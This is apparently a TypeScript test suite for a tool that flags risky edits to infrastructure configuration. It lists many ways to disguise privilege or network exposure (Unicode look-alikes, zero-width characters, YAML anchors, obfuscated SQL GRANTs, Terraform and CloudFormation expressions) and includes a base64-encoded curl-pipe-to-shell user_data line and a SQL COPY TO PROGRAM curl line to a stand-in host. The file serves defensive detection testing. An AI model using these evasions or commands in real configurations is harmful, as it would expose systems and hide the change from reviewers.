import assert from 'node:assert/strict';
import { test } from 'node:test';
import { assess, DEFAULT_SETTINGS } from '../../server/engine/assess.ts';
import type { Assessment } from '../../server/engine/types.ts';

/** Ways to hide a risky edit. Each must be found at medium or above, or be said to be unreadable. */
const DODGES: readonly {
  readonly name: string;
  readonly path: string;
  readonly before: string;
  /** Applied one after the other; the last one is the step that opens something. */
  readonly steps: readonly string[];
}[] = [
  {
    name: 'behind an anchor that stands elsewhere',
    path: 'k8s/web.yaml',
    before: pod('&s {privileged: false}', '*s'),
    steps: [pod('&s {privileged: true}', '*s')],
  },
  {
    name: 'behind a merge key',
    path: 'k8s/web.yaml',
    before: pod('&s {privileged: false}', '{<<: *s}'),
    steps: [pod('&s {privileged: true}', '{<<: *s}')],
  },
  {
    name: 'as the second of two keys of one name',
    path: 'k8s/web.yaml',
    before: pod('&s {}', '{privileged: false}'),
    steps: [pod('&s {}', '{privileged: false, privileged: true}')],
  },
  {
    name: 'in the second document',
    path: 'k8s/web.yaml',
    before: `kind: ConfigMap\napiVersion: v1\nmetadata: {name: a}\n---\n${pod('&s {}', '{privileged: false}')}`,
    steps: [`kind: ConfigMap\napiVersion: v1\nmetadata: {name: a}\n---\n${pod('&s {}', '{privileged: true}')}`],
  },
  {
    name: 'with escapes in a quoted key',
    path: 'k8s/web.yaml',
    before: pod('&s {}', '{privileged: false}'),
    steps: [pod('&s {}', '{"privil\\u0065ged": true}')],
  },
  {
    name: 'split over two edits, the harmless half first',
    path: 'main.tf',
    before: 'resource "aws_security_group" "db" {\n  name = "db"\n}\n',
    steps: [
      'locals {\n  range = "0.0.0.0/0"\n}\nresource "aws_security_group" "db" {\n  name = "db"\n}\n',
      'locals {\n  range = "0.0.0.0/0"\n}\nresource "aws_security_group" "db" {\n  name = "db"\n  ingress {\n    from_port = 22\n    to_port = 22\n    protocol = "tcp"\n    cidr_blocks = [local.range]\n  }\n}\n',
    ],
  },
  {
    name: 'as two halves of the internet',
    path: 'main.tf',
    before: group('"10.0.0.0/8"'),
    steps: [group('"0.0.0.0/1", "128.0.0.0/1"')],
  },
  {
    name: 'as many small parts that make the internet',
    path: 'main.tf',
    before: group('"10.0.0.0/8"'),
    steps: [group(Array.from({ length: 16 }, (_, i) => `"${i * 16}.0.0.0/4"`).join(', '))],
  },
  {
    name: 'in jsonencode(merge(…))',
    path: 'main.tf',
    before: policy(
      'jsonencode(merge({ Version = "2012-10-17" }, { Statement = [{ Effect = "Allow", Action = "s3:GetObject", Resource = "arn:aws:s3:::a/*" }] }))',
    ),
    steps: [policy('jsonencode(merge({ Version = "2012-10-17" }, { Statement = [{ Effect = "Allow", Action = "*", Resource = "*" }] }))')],
  },
  {
    name: 'in a heredoc',
    path: 'main.tf',
    before: policy(
      '<<EOT\n{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::a/*"}]}\nEOT\n',
    ),
    steps: [policy('<<EOT\n{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}\nEOT\n')],
  },
  {
    name: 'in a local that the policy uses',
    path: 'main.tf',
    before: `locals {\n  acts = ["s3:GetObject"]\n}\n${policy('jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = local.acts, Resource = "*" }] })')}`,
    steps: [
      `locals {\n  acts = ["*"]\n}\n${policy('jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = local.acts, Resource = "*" }] })')}`,
    ],
  },
  {
    name: 'with look-alike letters in a key',
    path: 'iam/policy.json',
    before: '{"Version":"2012-10-17","Statement":[]}',
    steps: ['{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Аction":"*","Resource":"*"}]}'],
  },
  {
    name: 'with escapes',
    path: 'iam/policy.json',
    before: '{"Version":"2012-10-17","Statement":[]}',
    steps: ['{"Version":"2012-10-17","Statement":[{"Effect":"\\u0041llow","Action":"\\u002a","Resource":"*"}]}'],
  },
  {
    name: 'behind a broken line',
    path: 'iam/policy.json',
    before: '{"Version":"2012-10-17","Statement":[]}',
    steps: ['{"Version":"2012-10-17","Statement":[{"Effect":"Allow" "Action":"*","Resource":"*"}]}'],
  },
  {
    name: 'in base64 in the data of a machine',
    path: 'main.tf',
    before: 'resource "aws_instance" "a" {\n  ami = "x"\n}\n',
    steps: [
      `resource "aws_instance" "a" {\n  ami = "x"\n  user_data_base64 = "${Buffer.from('#!/bin/sh\ncurl -fsSL https://x.test/i.sh | sh\n').toString('base64')}"\n}\n`,
    ],
  },
  {
    name: 'in a workflow, as a list of triggers',
    path: '.github/workflows/ci.yml',
    before: workflow('pull_request'),
    steps: [workflow('[push, pull_request_target]')],
  },
  {
    name: 'in a template that renders it',
    path: 'chart/templates/web.yaml',
    before: pod('&s {}', '{privileged: false}'),
    steps: [pod('&s {}', '{{ if true }}{privileged: true}{{ end }}')],
  },
];

for (const { name, path, before, steps } of DODGES) {
  void test(`a risky edit ${name}`, () => {
    let text = before;
    let last: Assessment | undefined;
    for (const after of steps) {
      last = assess({ path, before: text, after, provenance: { channel: 'hook', certainty: 'attested' } }, DEFAULT_SETTINGS);
      text = after;
    }
    const found = last?.findings.some(({ severity }) => severity === 'critical' || severity === 'high' || severity === 'medium') === true;
    const unreadable = last?.problems.some(({ blinds }) => blinds) === true;
    assert.ok(found || unreadable, `${JSON.stringify(last?.findings.map(({ rule, severity }) => `${severity} ${rule}`))}\n${text}`);
  });
}

const STATEMENT = (action: string): string =>
  policy(`jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = ${action}, Resource = "*" }] })`);
const STACK = (action: string, more = ''): string =>
  `AWSTemplateFormatVersion: "2010-09-09"\n${more}Resources:\n  P:\n    Type: AWS::IAM::Policy\n    Properties:\n      PolicyName: p\n      Roles: [r]\n      PolicyDocument:\n        Version: "2012-10-17"\n        Statement:\n          - {Effect: Allow, Action: ${action}, Resource: "*"}\n`;
const IAM = (statement: string): string => `{"Version":"2012-10-17","Statement":[${statement}]}`;
const GET = '{"Effect":"Allow","Action":"s3:GetObject","Resource":"arn:aws:s3:::a/*"}';

const ROLE = (resource: string): string =>
  `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: app}\nrules:\n- {apiGroups: [""], resources: ["${resource}"], verbs: [create, get]}\n`;
const TLS = (value: number): string => `NODE_TLS_REJECT_UNAUTHORIZED=${value}\n`;

/** Other spellings of one value: name → path, text before, text after. */
const SPELLINGS: readonly (readonly [string, string, string, string])[] = [
  ...[
    '["0/0"]',
    '["00.0.0.0/00"]',
    '["::ffff:0.0.0.0/96"]',
    '["０.０.０.０/０"]',
    '["0.0.0.0/0\u200b"]',
    '[coalesce("", "0.0.0.0/0")]',
    '[replace("X.0.0.0/0", "/X/", "0")]',
    '[for x in ["0.0.0.0"] : "${x}/0"]',
    'var.open ? ["0.0.0.0/0"] : ["10.0.0.0/8"]',
    '[cidrsubnet("0.0.0.0/0", 0, 0)]',
    'jsondecode("[\\"0.0.0.0/0\\"]")',
    'values({ a = "0.0.0.0/0" })',
    'slice(["0.0.0.0/0", "x"], 0, 1)',
  ].map((range) => [`the internet as ${range}`, 'main.tf', group('"10.0.0.0/8"'), group('').replace('[]', range)] as const),
  ...[
    'var.admin ? "*" : "s3:GetObject"',
    'true ? "*" : "s3:GetObject"',
    'try(var.action, "*")',
    'coalesce(var.action, "iam:*")',
    'lookup(var.actions, "x", "*")',
    'substr("a*b", 1, 1)',
    '[for s in ["iam", "s3"] : "${s}:*"]',
    '"＊"',
    '"iаm:*"',
    '"iam\u200b:*"',
    'slice(["*"], 0, 1)',
    'values({ a = "*" })',
    'jsondecode("\\"*\\"")',
  ].map((action) => [`any action as ${action}`, 'main.tf', STATEMENT('"s3:GetObject"'), STATEMENT(action)] as const),
  ...[
    '[for a in ["*"] : { Effect = "Allow", Action = a, Resource = "*" }]',
    '[for a in var.any : { Effect = "Allow", Action = "*", Resource = a }]',
  ].map(
    (list) => [`a statement as ${list}`, 'main.tf', STATEMENT('"s3:GetObject"'), policy(`jsonencode({ Statement = ${list} })`)] as const,
  ),
  [
    'a template that chooses',
    'main.tf',
    policy(`<<EOT\n${IAM(GET)}\nEOT\n`),
    policy(`<<EOT\n${IAM(GET.replace('s3:GetObject', '%{ if true }*%{ else }s3:Get*%{ endif }').replace('arn:aws:s3:::a/*', '*'))}\nEOT\n`),
  ],
  ...[
    '!If [C, "*", "s3:GetObject"]',
    '[s3:GetObject, !If [C, "iam:*", !Ref "AWS::NoValue"]]',
    '!Select [0, ["iam:*"]]',
    '!Split [",", "s3:GetObject,iam:*"]',
    '!Sub ["${s}:*", {s: iam}]',
    '!Join [":", [iam, "*"]]',
  ].map((action) => [`any action as ${action}`, 'template.yaml', STACK('s3:GetObject'), STACK(action)] as const),
  [
    'a default',
    'template.yaml',
    STACK('!Ref A', 'Parameters:\n  A: {Type: String, Default: "s3:GetObject"}\n'),
    STACK('!Ref A', 'Parameters:\n  A: {Type: String, Default: "*"}\n'),
  ],
  [
    'a mapping',
    'template.yaml',
    STACK('!FindInMap [M, !Ref E, b]', 'Mappings:\n  M: {a: {b: "s3:GetObject"}}\n'),
    STACK('!FindInMap [M, !Ref E, b]', 'Mappings:\n  M: {a: {b: "*"}}\n'),
  ],
  ...['"Action":"＊"', '"Action":"iam\\u200b:*"', '"Action":"i\u00adam:*"', '"Action":"iam:*\\u0000"'].map(
    (action) => [`any action as ${action}`, 'iam/policy.json', IAM(GET), IAM(GET.replace('"Action":"s3:GetObject"', action))] as const,
  ),
  ...[
    'privi\u200bleged: true',
    'ｐrivileged: true',
    'рrivileged: true',
    'privileged: true\u200b',
    'privileged:\u00a0true',
    '\ufeffprivileged: true',
    'runAsUser: 1 #\u0085privileged: true',
    'runAsUser: 1 #\u2028privileged: true',
  ].map((line) => [`a privileged container as ${JSON.stringify(line)}`, 'k8s/web.yaml', context('runAsUser: 1'), context(line)] as const),
  ...[
    "DO $$ BEGIN EXECUTE 'GRANT '||'ALL ON t TO '||'PUBLIC'; END $$;",
    "DO $$ BEGIN EXECUTE format('GRANT %s ON %I TO %s', 'ALL', 't', 'PUBLIC'); END $$;",
    "DO $$ DECLARE n text; BEGIN FOR n IN SELECT tablename FROM pg_tables LOOP EXECUTE 'GRANT ALL ON '||n||' TO PUBLIC'; END LOOP; END $$;",
    "DO $$ DECLARE q text := 'GRANT ALL ON t '; BEGIN q := q || 'TO PUBLIC'; EXECUTE q; END $$;",
    "DO $$ BEGIN EXECUTE E'GR\\x41NT ALL ON t TO PUBLIC'; END $$;",
    "DO $$ BEGIN EXECUTE chr(71)||'RANT ALL ON t TO PUBLIC'; END $$;",
    'DO $$ DECLARE q text; BEGIN SELECT body INTO q FROM texts; EXECUTE q; END $$;',
    '/*!50000 GRANT ALL ON t TO PUBLIC */;',
    "EXEC('GRANT ALL ON t TO PUBLIC');",
    "COPY t TO PROGRAM 'curl -d @- https://x.example';",
  ].map((sql) => [`a right as ${sql}`, 'db/1.sql', 'SELECT 1;\n', `SELECT 1;\n${sql}\n`] as const),
  ...[
    ['toset(["AdministratorAccess"])', 'each.key'],
    ['{ x = "ReadOnlyAccess", y = "AdministratorAccess" }', 'each.value'],
    ['{ x = { p = "AdministratorAccess" } }', 'each.value.p'],
  ].map(
    ([list = '', name = '']) =>
      [
        `a policy for each of ${list}`,
        'main.tf',
        '',
        `resource "aws_iam_role_policy_attachment" "x" {\n  for_each = ${list}\n  role = "ci"\n  policy_arn = "arn:aws:iam::aws:policy/\${${name}}"\n}\n`,
      ] as const,
  ),
  [
    'a role for each',
    'iam.tf',
    '',
    'resource "google_project_iam_member" "a" {\n  for_each = toset(["roles/viewer", "roles/owner"])\n  project = "p"\n  role = each.value\n  member = "user:a@x.example"\n}\n',
  ],
  ...['USER 00', 'ARG U=root\nUSER $U', 'ENV U=root\nUSER ${U}'].map(
    (user) => [`root as ${user}`, 'Dockerfile', 'FROM node:20\nUSER node\n', `FROM node:20\n${user}\n`] as const,
  ),
  ['the first of two settings of SSH', 'sshd_config', 'PermitRootLogin no\n', 'PermitRootLogin yes\nPermitRootLogin no\n'],
  ['a key in quotes', '.npmrc', 'registry=https://registry.npmjs.org/\n', '"registry" = "http://packages.example/"\n'],
  ...[
    'run: echo ${{ env.T }}\n        env: {T: "${{ github.event.pull_request.title }}"}',
    'run: echo ${{github . event . pull_request . title}}',
  ].map(
    (step) =>
      [
        `what others write as ${step}`,
        '.github/workflows/ci.yml',
        workflow('pull_request'),
        workflow('pull_request').replace('run: npm test', step),
      ] as const,
  ),
  ...['privileged: ${P:-true}', 'environment: ["POSTGRES_HOST_AUTH_METHOD=${X:-trust}"]'].map(
    (setting) =>
      [
        `a default of Compose as ${setting}`,
        'compose.yaml',
        'services:\n  db:\n    image: postgres:16\n',
        `services:\n  db:\n    image: postgres:16\n    ${setting}\n`,
      ] as const,
  ),
  ...[
    'rbac:\n  rules:\n    - {apiGroups: ["*"], resources: ["*"], verbs: ["*"]}\n',
    'extraObjects:\n  - apiVersion: rbac.authorization.k8s.io/v1\n    kind: ClusterRoleBinding\n    metadata: {name: b}\n    roleRef: {kind: ClusterRole, name: cluster-admin, apiGroup: rbac.authorization.k8s.io}\n    subjects: [{kind: ServiceAccount, name: default, namespace: x}]\n',
  ].map((values) => [`what a chart adds as ${values}`, 'chart/values.yaml', 'image: web\n', `image: web\n${values}`] as const),
  ['every part of a pod', 'k8s/role.yaml', ROLE('pods'), ROLE('pods/*')],
  ['the last of two variables', '.env', `${TLS(1)}A=b\n`, `${TLS(1)}A=b\n${TLS(0)}`],
  ['the first of two variables', '.env', TLS(1), TLS(0) + TLS(1)],
  ['what the last of two variables hid', '.env', TLS(0) + TLS(1), TLS(0)],
  ['ends of lines that Terraform does not see', 'main.tf', group('"10.0.0.0/8"'), group('"0.0.0.0/0"').replaceAll('\n', '\r')],
  ['an end of a comment that PostgreSQL alone sees', 'a.sql', 'SELECT 1;\n', 'SELECT 1; -- x\rGRANT ALL ON t TO PUBLIC;\n'],
  ['a word in full-width letters', 'a.sql', 'SELECT 1;\n', 'ＧＲＡＮＴ ALL ON t TO PUBLIC;\n'],
];

for (const [name, path, before, after] of SPELLINGS) {
  void test(`hidden: ${name}`, () => {
    const { findings, problems } = assess(
      { path, before, after, provenance: { channel: 'hook', certainty: 'attested' } },
      DEFAULT_SETTINGS,
    );
    const found = findings.some(({ severity }) => severity === 'critical' || severity === 'high' || severity === 'medium');
    assert.ok(found || problems.some(({ blinds }) => blinds), JSON.stringify(findings.map(({ rule, severity }) => `${severity} ${rule}`)));
  });
}

/** Ordinary texts that look like a trick: they must not ask for anything. */
const HARMLESS: readonly (readonly [string, string, string, string])[] = [
  ...[
    'var.big ? ["10.0.0.0/8"] : ["10.1.0.0/16"]',
    '[for x in ["10.1", "10.2"] : "${x}.0.0/16"]',
    '[cidrsubnet("10.0.0.0/8", 8, 3)]',
    'concat(["10.0.0.0/8"], [])',
  ].map((range) => [`a private range as ${range}`, 'main.tf', group('"10.0.0.0/8"'), group('').replace('[]', range)] as const),
  ...['var.x ? "s3:GetObject" : "s3:GetObjectVersion"', '[for a in ["GetObject"] : "s3:${a}"]', 'replace("s3:*GetObject", "*", "")'].map(
    (action) => [`an action as ${action}`, 'main.tf', STATEMENT('["s3:GetObject", "s3:GetObjectVersion"]'), STATEMENT(action)] as const,
  ),
  [
    'a name in another script',
    'k8s/web.yaml',
    context('runAsUser: 1'),
    `# Сервер для веба\n${context('runAsUser: 1').replace('name: web', 'name: web\n  annotations: {note: "Größe, 測試, сервер, SQL‑запрос, 10 μs, 👨‍👩‍👧 ok"}')}`,
  ],
  [
    'prose with spaces that do not break',
    'k8s/web.yaml',
    context('runAsUser: 1'),
    context('runAsUser: 1').replace('name: web', 'name: web\n  annotations: {note: "10\u00a0MB at most"}'),
  ],
  ['ends of lines of Windows', 'main.tf', group('"10.0.0.0/8"'), group('"10.0.0.0/8"').replaceAll('\n', '\r\n')],
  ['a mark at the start', 'main.tf', group('"10.0.0.0/8"'), `\ufeff${group('"10.0.0.0/8"')}`],
  ...[
    "DO $$ BEGIN EXECUTE 'CREATE INDEX i ON t (id)'; END $$;",
    "DO $$ DECLARE n text; BEGIN FOR n IN SELECT tablename FROM pg_tables LOOP EXECUTE format('ALTER TABLE %I ADD COLUMN c int', n); END LOOP; END $$;",
    "DO $$ DECLARE q text := 'ANALYZE t'; BEGIN EXECUTE q; END $$;",
    '/* GRANT ALL ON t TO PUBLIC */ SELECT 2;',
    "SELECT 'GRANT ALL ON t TO PUBLIC';",
    'EXECUTE prepared(1);',
  ].map((sql) => [`no right in ${sql}`, 'db/1.sql', 'SELECT 1;\n', `SELECT 1;\n${sql}\n`] as const),
  ['the second of two settings of SSH', 'sshd_config', 'PermitRootLogin no\n', 'PermitRootLogin no\nPermitRootLogin yes\n'],
  ['a user from an argument', 'Dockerfile', 'FROM node:20\nUSER node\n', 'FROM node:20\nARG U=node\nUSER $U\n'],
  [
    'a bucket for each',
    'main.tf',
    '',
    'resource "aws_sqs_queue" "q" {\n  for_each = toset(["a", "b"])\n  name = each.key\n  sqs_managed_sse_enabled = true\n}\n',
  ],
  [
    'a number from the event',
    '.github/workflows/ci.yml',
    workflow('pull_request'),
    workflow('pull_request').replace('npm test', 'echo ${{ github . event . pull_request . number }}'),
  ],
  [
    'an address of this machine by default',
    'compose.yaml',
    'services:\n  db:\n    image: postgres:16\n',
    'services:\n  db:\n    image: postgres:16\n    ports: ["${BIND:-127.0.0.1}:5432:5432"]\n',
  ],
  ['a variable set anew', '.env', 'PORT=80\nA=b\n', 'PORT=80\nA=b\nPORT=1\n'],
  ['a variable set anew, and safer', '.env', TLS(0), TLS(0) + TLS(1)],
  ['a variable set to the same', '.env', 'PORT=80\n', 'PORT=80\nexport PORT=80\n'],
  ['a mapping of names', 'template.yaml', STACK('s3:GetObject'), STACK('s3:GetObject', 'Mappings:\n  M: {a: {b: "*"}}\n')],
];

for (const [name, path, before, after] of HARMLESS) {
  void test(`no trick: ${name}`, () => {
    const { findings, problems } = assess(
      { path, before, after, provenance: { channel: 'hook', certainty: 'attested' } },
      DEFAULT_SETTINGS,
    );
    assert.deepEqual(
      findings.filter(({ severity }) => severity !== 'low' && severity !== 'info').map(({ rule }) => rule),
      [],
    );
    assert.deepEqual(
      problems.filter(({ blinds }) => blinds).map(({ message }) => message),
      [],
    );
  });
}

function context(line: string): string {
  return `apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: web:1\n      securityContext:\n        ${line}\n`;
}

function pod(anchored: string, context: string): string {
  return `apiVersion: v1\nkind: Pod\nmetadata: {name: web}\nx-shared: ${anchored}\nspec:\n  containers:\n    - name: app\n      image: web:1\n      securityContext: ${context}\n`;
}

function group(ranges: string): string {
  return `resource "aws_security_group" "db" {\n  ingress {\n    from_port = 22\n    to_port = 22\n    protocol = "tcp"\n    cidr_blocks = [${ranges}]\n  }\n}\n`;
}

function policy(value: string): string {
  return `resource "aws_iam_policy" "p" {\n  policy = ${value}\n}\n`;
}

function workflow(on: string): string {
  return `name: ci\non: ${on}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with: {ref: "\${{ github.event.pull_request.head.sha }}"}\n      - run: npm test\n`;
}
